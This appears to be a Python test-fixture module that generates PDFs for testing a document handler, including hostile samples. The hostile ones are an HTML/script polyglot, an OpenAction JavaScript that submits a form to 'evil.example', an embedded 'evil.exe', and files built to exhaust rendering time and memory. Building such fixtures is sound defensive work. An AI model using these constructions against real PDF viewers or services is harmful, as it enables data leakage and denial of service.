"""PDFs as they come from strangers: plain ones, and such as are meant to do harm."""

from __future__ import annotations

import random
import zlib


def written(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A file of these objects, the first one its catalogue."""
    out, offsets = b"%PDF-1.4\n", []
    for number, one in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    at = len(out)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table)
    return out + b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, at)


def pdf(
    pages: int = 1,
    box: bytes = b"0 0 595 842",
    drawn: bytes = b"BT /F1 24 Tf 72 720 Td (Chen Xiao) Tj ET",
    catalogue: bytes = b"",
    more: tuple[bytes, ...] = (),
    trailer: bytes = b"",
) -> bytes:
    """`pages` alike; `catalogue` and `trailer` are entries of these, `more` are objects behind the pages."""
    kids = b" ".join(b"%d 0 R" % (5 + number) for number in range(pages))
    page = b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
    return written(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
            b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [%s] >>" % (kids, pages, box),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawn), drawn),
            *[page] * pages,
            *more,
        ],
        trailer,
    )


HTML = b"%PDF-1.4\n<!doctype html><script>alert(document.cookie)</script>"
WITH_SCRIPT = pdf(
    catalogue=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example'\\);) >>"
)
WITH_FILE = pdf(
    catalogue=b"/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>",
    more=(
        b"<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
    ),
)
ENCRYPTED = pdf(
    more=(b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <%s> /U <%s> >>" % (b"41" * 32, b"42" * 32),),
    trailer=b"/Encrypt 6 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] ",
)


def endless() -> bytes:
    """Each page takes for ever: half a million strokes."""
    return pdf(
        3,
        drawn=b"".join(
            b"%d %d m %d %d l S\n" % (number % 600, number * 7 % 800, number * 13 % 600, number * 3 % 800)
            for number in range(400_000)
        ),
    )


def picture_of(side: int) -> bytes:
    """A page with a picture of so many pixels a side, all of them black: a few bytes in the file, and all of them in memory."""
    deflate = zlib.compressobj(9)
    row = bytes(3 * side)
    packed = b"".join(deflate.compress(row) for _ in range(side)) + deflate.flush()
    head = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8" % (
        side,
        side,
    )
    image = b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (head, len(packed), packed)
    content = b"q 595 0 0 842 0 0 cm /Im1 Do Q"
    return written(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] >>",
            b"<< /Type /Page /Parent 2 0 R /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
            image,
        ]
    )


def of_size(size: int) -> bytes:
    """A sound one of so many bytes."""
    sound = pdf()
    noise = random.Random(7).randbytes(4096)
    rest = size - len(sound)
    return sound + (noise * (rest // len(noise) + 1))[:rest]
